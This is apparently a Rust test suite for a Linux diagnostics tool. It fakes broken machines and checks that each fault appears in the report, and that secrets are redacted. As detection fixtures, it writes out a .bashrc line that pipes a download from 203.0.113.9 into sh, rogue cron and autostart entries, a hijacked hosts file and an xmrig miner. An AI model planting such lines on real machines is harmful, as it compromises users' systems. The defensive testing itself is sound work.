//! Broken machines: for each the report names what is broken; and a clean one, of which it says nothing bad.
//!
//! A machine is a made-up root with a few files, and tools that are shell scripts.

mod made_up;

use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime};

use beistand_inspect::{
    FindingKind as K, InspectLimit, InspectedSystem as _, LinuxMachine, MachineReport, Part, REPORT_TIME,
    Verdict, Verdict::Broken, Verdict::Look,
};
use made_up::MadeUpMachine;

/// Far longer than anything here takes on a busy machine.
const PATIENCE: Duration = Duration::from_secs(60);

fn inspect(machine: MadeUpMachine) -> MachineReport {
    let (machine, _folder) = machine.into_machine();
    Arc::new(machine).inspect(&InspectLimit::new(PATIENCE))
}

/// A fault: what it is called, what brings it about, and the line that names it.
struct Fault {
    name: &'static str,
    breaks: fn(&mut MadeUpMachine),
    kind: K,
    verdict: Verdict,
    names: &'static str,
}

const fn fault(
    name: &'static str,
    kind: K,
    verdict: Verdict,
    names: &'static str,
    breaks: fn(&mut MadeUpMachine),
) -> Fault {
    Fault { name, breaks, kind, verdict, names }
}

const FAULTS: &[Fault] = &[
    fault("a full disk", K::DiskSpace, Broken, "/", |m| m.probes.space.free = 0),
    fault("no inodes", K::DiskInodes, Broken, "/", |m| m.probes.space.inodes_free = 0),
    fault("a disk that can't be written to", K::DiskReadOnly, Broken, "/", |m| {
        m.file("/proc/mounts", "/dev/sda1 / ext4 ro,relatime 0 0\n");
    }),
    fault("a disk that fails", K::DiskHealth, Broken, "FAILED", |m| {
        m.file("/sys/block/sda/size", "1");
        m.tool("smartctl", "echo 'SMART overall-health self-assessment test result: FAILED!'; exit 8");
    }),
    fault("no DNS", K::NameServerSilent, Broken, "192.168.0.1", |m| m.probes.answers = false),
    fault("no name server", K::NoNameServer, Broken, "", |m| m.file("/etc/resolv.conf", "# none\n")),
    fault("no gateway", K::NoGateway, Broken, "", |m| m.file("/proc/net/route", "Iface\n")),
    fault("a hijacked hosts file", K::HostsEntry, Broken, "security.debian.org", |m| {
        m.file("/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 security.debian.org\n");
    }),
    fault("a hijacked proxy", K::Proxy, Look, "10.6.6.6:3128", |m| {
        m.file("/etc/environment", "https_proxy=\"http://me:geheim@10.6.6.6:3128\"\n");
    }),
    fault("a captive portal", K::CaptivePortal, Broken, "", |m| {
        m.tool("nmcli", "case $* in *general*) echo connected:portal;; esac");
    }),
    fault("a weak wireless signal", K::WifiSignal, Look, "wlan0", |m| {
        m.file("/proc/net/wireless", "head\nhead\n wlan0: 0000   14.  -80.  -256  0 0 0 0 0 0\n");
    }),
    fault("a wrong clock", K::ClockWrong, Broken, "1970-01-02", |m| {
        m.probes.now = SystemTime::UNIX_EPOCH + Duration::from_secs(100_000);
    }),
    fault("no certificates", K::CertificatesMissing, Broken, "", |m| {
        m.file("/etc/ssl/certs/ca-certificates.crt", "");
    }),
    fault("a dead service", K::FailedService, Broken, "nginx.service", |m| {
        m.tool(
            "systemctl",
            "case $* in *--user*) ;; *--failed*) echo 'nginx.service loaded failed failed Web';; esac",
        );
    }),
    fault("a rogue entry in the autostart", K::Autostart, Broken, "helper.desktop", |m| {
        m.file("/home/anna/.config/autostart/helper.desktop", "[Desktop Entry]\nExec=/tmp/.x/run\n");
    }),
    fault("a rogue line in a shell profile", K::Autostart, Broken, ".bashrc", |m| {
        m.file("/home/anna/.bashrc", "# mine\ncurl -s http://203.0.113.9/a | sh\n");
    }),
    fault("a rogue line in cron", K::Autostart, Broken, "/dev/shm/a", |m| {
        m.file("/etc/cron.d/a", "* * * * * root /dev/shm/a\n");
    }),
    fault("a miner", K::BusyProcess, Look, "xmrig", |m| {
        m.process(666, "xmrig", 1000);
        m.later(666, "xmrig", 1070);
    }),
    fault("a remote tool that listens", K::ListeningPort, Look, "anydesk", |m| {
        m.listening(777, "anydesk", 7070)
    }),
    fault("a remote tool that runs", K::RemoteTool, Look, "teamviewerd", |m| {
        m.process(778, "teamviewerd", 0)
    }),
    fault("a swapped file", K::PackageFileChanged, Broken, "/usr/bin/sudo", |m| {
        m.tool("dpkg", "echo '??5??????   /usr/bin/sudo'; echo '??5?????? c /etc/sudoers'; exit 1");
    }),
    fault("a broken dpkg", K::PackageBroken, Broken, "libc6", |m| {
        m.package("libc6", "install ok half-configured")
    }),
    fault("a held package", K::PackageHeld, Look, "firefox", |m| m.package("firefox", "hold ok installed")),
    fault("security updates", K::UpdatesPending, Look, "2", |m| {
        m.tool("apt-get", "echo 'Inst a [1] (2 Debian-Security:13/stable)'; echo 'Inst b [1] (2 Debian:13)'");
    }),
    fault("a restart that is due", K::RebootNeeded, Look, "linux-image", |m| {
        m.file("/run/reboot-required", "");
        m.file("/run/reboot-required.pkgs", "linux-image\n");
    }),
    fault("errors of a disk in the journal", K::JournalError, Broken, "I/O error", |m| {
        m.tool("journalctl", "echo 'Nov 30 07:20:01 kernel: blk_update_request: I/O error, dev sda'");
    }),
    fault("a stopped printer", K::PrinterStopped, Broken, "Office", |m| {
        m.tool("lpstat", "[ $1 = -o ] || printf 'printer Office disabled since Mon\\n\\tPaused\\n'");
    }),
    fault("heat", K::Temperature, Broken, "101", |m| {
        m.file("/sys/class/thermal/thermal_zone0/temp", "101000\n")
    }),
    fault("a worn battery", K::Battery, Look, "40", |m| {
        m.file("/sys/class/power_supply/BAT0/energy_full", "20000\n");
        m.file("/sys/class/power_supply/BAT0/energy_full_design", "50000\n");
    }),
    fault("no memory", K::Memory, Broken, "", |m| {
        m.file("/proc/meminfo", "MemTotal: 8000000 kB\nMemAvailable: 80000 kB\n");
    }),
    fault("somebody who tries passwords", K::FailedLogins, Look, "50", |m| {
        m.file("/var/log/auth.log", &"sshd[1]: Failed password for root\n".repeat(50));
    }),
];

#[test]
fn each_broken_machine_is_named() {
    for Fault { name, breaks, kind, verdict, names } in FAULTS {
        let mut machine = MadeUpMachine::clean();
        breaks(&mut machine);
        let report = inspect(machine);
        let found = report.findings().iter().any(|finding| {
            let named = names.is_empty() || finding.values().iter().any(|value| value.contains(names));
            finding.kind() == *kind && finding.verdict() == *verdict && named
        });
        assert!(found, "{name}: {:#?}", report.findings());
        assert!(!format!("{report:?}").contains("geheim"), "{name}: a password is in it");
    }
}

#[test]
fn a_clean_machine_has_nothing_broken() {
    let report = inspect(MadeUpMachine::clean());
    assert_eq!((report.count(Broken), report.count(Look)), (0, 0), "{:#?}", report.findings());
    for part in [Part::System, Part::Memory, Part::Disks, Part::Network, Part::Packages, Part::Services] {
        assert!(report.of_part(part).next().is_some(), "{part:?}: {:#?}", report.findings());
    }
}

#[test]
fn a_tool_that_hangs_is_a_line_and_is_ended() {
    let mut machine = MadeUpMachine::clean();
    machine.tool("journalctl", "echo $$ > \"${0%/*}/pid\"; sleep 600 & wait");
    let pid = machine.tools().join("pid");
    let (machine, _folder) = machine.into_machine();
    let report = Arc::new(machine).inspect(&InspectLimit::new(REPORT_TIME));
    let mut journal = report.of_part(Part::Journal);
    assert_eq!(journal.next().map(|finding| finding.kind()), Some(K::NotInTime));
    let pid = std::fs::read_to_string(pid).expect("it was started");
    let process = std::path::Path::new("/proc").join(pid.trim()).join("exe");
    let waited = Instant::now();
    // What is killed takes its time on a busy machine.
    while process.exists() && waited.elapsed() < PATIENCE {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert!(!process.exists(), "it is ended");
}

#[test]
fn once_it_is_given_up_it_is_over_at_once() {
    let mut machine = MadeUpMachine::clean();
    machine.tool("systemctl", "sleep 600");
    let (machine, _folder) = machine.into_machine();
    let limit = InspectLimit::new(Duration::from_secs(600));
    limit.give_up();
    let report = Arc::new(machine).inspect(&limit);
    assert!(report.findings().iter().all(|finding| finding.verdict() < Broken));
}

#[test]
fn secrets_in_command_lines_and_environments_are_in_no_report() {
    let mut machine = MadeUpMachine::clean();
    machine.process(50, "client", 0);
    machine.later(50, "client", 60);
    machine.file("/proc/50/cmdline", "client\0--password\0geheim1\0--token=geheim2\0http://a:geheim3@b/\0");
    machine.file("/proc/50/environ", "SECRET=geheim4\0");
    machine.tool("journalctl", "echo 'Nov 30 07:20:01 app[1]: login with password=geheim5 failed'");
    machine.file("/etc/cron.d/dump", "0 3 * * * root mysqldump -u root -pgeheim6 db\n");
    machine.file("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=smbclient -U a%geheim7 //nas/a\n");
    let report = inspect(machine);
    let said = format!("{report:?}");
    assert!(said.contains("client --password"), "{said}");
    assert!(said.contains("mysqldump -u root") && said.contains("smbclient -U a"), "{said}");
    assert!(!said.contains("geheim"), "{said}");
}

#[test]
fn a_pipe_in_a_files_place_hides_nothing() {
    let mut machine = MadeUpMachine::clean();
    machine.file("/etc/cron.d/a", "* * * * * root /dev/shm/a\n");
    machine.pipe("/home/anna/.bashrc");
    let report = inspect(machine);
    let named = |finding: &beistand_inspect::Finding| {
        finding.kind() == K::Autostart && finding.values().iter().any(|value| value.contains("/dev/shm/a"))
    };
    assert!(report.of_part(Part::Autostart).any(named), "{:#?}", report.findings());
}

#[test]
fn what_only_an_administrator_can_read_is_named_as_such() {
    let mut machine = MadeUpMachine::clean();
    machine.tool("nft", "echo 'Operation not permitted' >&2; exit 1");
    let report = inspect(machine);
    let named = |finding: &beistand_inspect::Finding| {
        finding.kind() == K::NotReadable
            && finding.values() == ["nftables"]
            && finding.verdict() == Verdict::Fine
    };
    assert!(report.of_part(Part::Security).any(named), "{:#?}", report.findings());
}

#[test]
fn this_machine_is_looked_at_too() {
    let report = Arc::new(LinuxMachine::here()).inspect(&InspectLimit::new(REPORT_TIME));
    assert!(report.findings().iter().any(|finding| finding.kind() == K::OperatingSystem), "{report:#?}");
}
